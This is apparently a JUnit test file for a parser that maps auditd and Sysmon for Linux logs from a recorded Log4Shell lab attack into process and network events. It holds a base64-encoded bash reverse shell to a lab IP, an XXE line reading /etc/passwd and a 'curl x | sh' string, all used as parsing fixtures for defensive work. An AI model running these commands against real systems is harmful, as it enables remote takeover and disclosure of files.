package io.sightline.formats.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.event.Endpoint;
import io.sightline.event.FileAccess;
import io.sightline.event.NetworkFlow;
import io.sightline.event.ProcessExec;
import io.sightline.event.ProcessExit;
import io.sightline.event.ProcessRef;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The AUOMS auditd and Sysmon for Linux records of the OTRF Log4Shell dataset (copied under
 * examples/otrf-log4shell), read as the log workspace exported them and as bare syslog lines.
 */
class HostSyslogMapperTest {

    static final String AUOMS = "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";
    static final String SYSMON = "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";
    static final String PAYLOAD =
            "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";

    @TempDir
    Path temp;

    static Path otrf(String file) {
        return TelemetryFiles.scenarios().resolve("otrf-log4shell/telemetry").resolve(file);
    }

    @Test
    void auomsExecsAreProcessesKeyedByTheirExecTimeWithTheParentByPid() {
        TelemetryFiles.Read read = TelemetryFiles.read(otrf(AUOMS), "telemetry/auoms.json");

        assertThat(read.summary().format()).isEqualTo("auoms");
        assertThat(read.summary().accepted()).isEqualTo(50);
        assertThat(read.summary().skipped()).isEmpty();
        ProcessExec spawn = read.at(6, ProcessExec.class);
        assertThat(spawn.process().host()).isEqualTo("UBUNTU5");
        assertThat(spawn.process().pid()).isEqualTo(17_790);
        assertThat(spawn.process().startTime()).isEqualTo(Instant.parse("2022-05-11T18:10:21.990Z"));
        assertThat(spawn.process().startKnown()).isTrue();
        assertThat(spawn.process().executable()).isEqualTo("/bin/bash");
        assertThat(spawn.process().arguments()).isEqualTo("-c " + PAYLOAD);
        assertThat(spawn.process().uid()).hasValue(1001);
        assertThat(spawn.parent()).hasValueSatisfying(parent -> {
            assertThat(parent.pid()).isEqualTo(1340);
            assertThat(parent.startKnown()).isFalse();
            assertThat(parent.startTime()).isEqualTo(spawn.time());
        });
        assertThat(read.at(35, ProcessExec.class).process().executable()).isEqualTo("/usr/bin/whoami");
    }

    @Test
    void aFailedExecOfAForkedJvmThreadDescribesTheJvm() {
        TelemetryFiles.Read read = TelemetryFiles.read(otrf(AUOMS), "telemetry/auoms.json");

        FileAccess pathSearch = read.at(1, FileAccess.class);
        assertThat(pathSearch.path()).isEqualTo("/usr/local/sbin/bash");
        assertThat(pathSearch.mode()).isEqualTo(FileAccess.Mode.READ);
        ProcessRef tomcat = pathSearch.parent().orElseThrow();
        assertThat(tomcat.pid()).isEqualTo(1340);
        assertThat(tomcat.executable()).isEqualTo("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
        assertThat(tomcat.arguments())
                .startsWith("-Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties");
        // dpkg failing to exec dpkg-query runs its own image (comm "dpkg"): its parent stays undescribed.
        FileAccess dpkg = read.at(20, FileAccess.class);
        assertThat(dpkg.process().executable()).isEqualTo("/usr/bin/dpkg");
        assertThat(dpkg.parent().orElseThrow().executable()).isEmpty();
    }

    @Test
    void sysmonEventsKeyProcessesOnTheStartTheirGuidHolds() {
        TelemetryFiles.Read read = TelemetryFiles.read(otrf(SYSMON), "telemetry/sysmon.json");

        assertThat(read.summary().format()).isEqualTo("sysmon-linux");
        assertThat(read.summary().accepted()).isEqualTo(92);
        assertThat(read.summary().skipped()).singleElement().satisfies(skipped -> {
            assertThat(skipped.line()).isEqualTo(62);
            assertThat(skipped.reason()).contains("udp socket with no endpoints");
        });
        // Line 8 is cut at syslog's size limit inside ParentCommandLine.
        ProcessExec spawn = read.at(8, ProcessExec.class);
        assertThat(spawn.time()).isEqualTo(Instant.parse("2022-05-11T18:10:21.998Z"));
        assertThat(spawn.process().startTime()).isEqualTo(Instant.parse("2022-05-11T18:10:21Z"));
        assertThat(spawn.process().execId()).hasValue("{94325212-fc0d-627b-4874-61f901560000}");
        assertThat(spawn.process().arguments()).isEqualTo("-c " + PAYLOAD);
        ProcessRef java = spawn.parent().orElseThrow();
        assertThat(java.pid()).isEqualTo(1340);
        assertThat(java.startTime()).isEqualTo(Instant.parse("2022-05-11T17:43:01Z"));
        assertThat(java.arguments()).contains("-Dcatalina.base=/opt/tomcat");

        NetworkFlow ldap = read.at(6, NetworkFlow.class);
        assertThat(ldap.direction()).isEqualTo(NetworkFlow.Direction.OUTBOUND);
        assertThat(ldap.local()).isEqualTo(new Endpoint("192.168.2.5", 41_696));
        assertThat(ldap.remote()).isEqualTo(new Endpoint("192.168.2.6", 1389));
        assertThat(ldap.process().key()).isEqualTo(java.key());
        assertThat(read.at(4, FileAccess.class).path()).isEqualTo("/opt/tomcat/logs/vulnapp-2.14.0.log");
        assertThat(read.at(14, FileAccess.class).mode()).isEqualTo(FileAccess.Mode.WRITE);
        assertThat(read.at(13, ProcessExit.class).process().key())
                .isEqualTo(read.at(11, ProcessExec.class).process().key());
        // A fork Sysmon never saw exec: a zero GUID, so by pid.
        assertThat(read.at(20, ProcessExec.class).parent().orElseThrow().startKnown())
                .isFalse();
        assertThat(read.at(21, ProcessExit.class).process().startKnown()).isFalse();
    }

    @Test
    void bareSyslogLinesAreReadLineByLineAndBrokenOnesSkippedAlone() throws IOException {
        String auoms = "May 11 18:10:22 UBUNTU5 auoms: type=AUOMS_EXECVE audit(1652292633.146:84192): node=UBUNTU5"
                + " success=yes ppid=17806 pid=17832 uid=1001 comm=\"whoami\" exe=\"/usr/bin/whoami\""
                + " cmdline=\"whoami\" redactors= containerid=";
        String sysmon = "May 11 18:10:33 UBUNTU5 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/>"
                + "<EventID>5</EventID><Computer>UBUNTU5</Computer></System><EventData>"
                + "<Data Name=\"UtcTime\">2022-05-11 18:10:33.163</Data>"
                + "<Data Name=\"ProcessGuid\">{94325212-fc19-627b-c0a6-c4601c560000}</Data>"
                + "<Data Name=\"ProcessId\">17832</Data><Data Name=\"Image\">/usr/bin/whoami</Data></EventData></Event>";
        String broken =
                "May 11 18:10:34 UBUNTU5 auoms: type=AUOMS_EXECVE audit(1652292634.1:1): node=UBUNTU5 success=yes";
        Path file = temp.resolve("syslog");
        Files.write(file, List.of(auoms, sysmon, broken, "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));

        TelemetryFiles.Read read = TelemetryFiles.read(file, "telemetry/syslog");

        assertThat(read.summary().format()).isEqualTo("auoms+sysmon-linux");
        assertThat(read.at(1, ProcessExec.class).process().pid()).isEqualTo(17_832);
        assertThat(read.at(2, ProcessExit.class).process().startTime())
                .isEqualTo(Instant.parse("2022-05-11T18:10:33Z"));
        assertThat(read.skippedLines()).containsExactly(3, 4);
        assertThat(read.summary().skipped().getFirst().reason()).contains("missing field");
    }

    @Test
    void bashQuotingOfAuomsCommandLinesIsUndone() {
        assertThat(SyslogRecords.words("bash -c \"{echo,QQ==}|{base64,-d}|{bash,-i}\""))
                .containsExactly("bash", "-c", "{echo,QQ==}|{base64,-d}|{bash,-i}");
        assertThat(SyslogRecords.words("sh -c 'echo hi!' $'a\\x41\\tb' \"x \\\"y\\\"\""))
                .containsExactly("sh", "-c", "echo hi!", "aA\tb", "x \"y\"");
        assertThat(SyslogRecords.arguments(List.of("sh", "-c", "curl x | sh"))).isEqualTo("-c \"curl x | sh\"");
    }
}
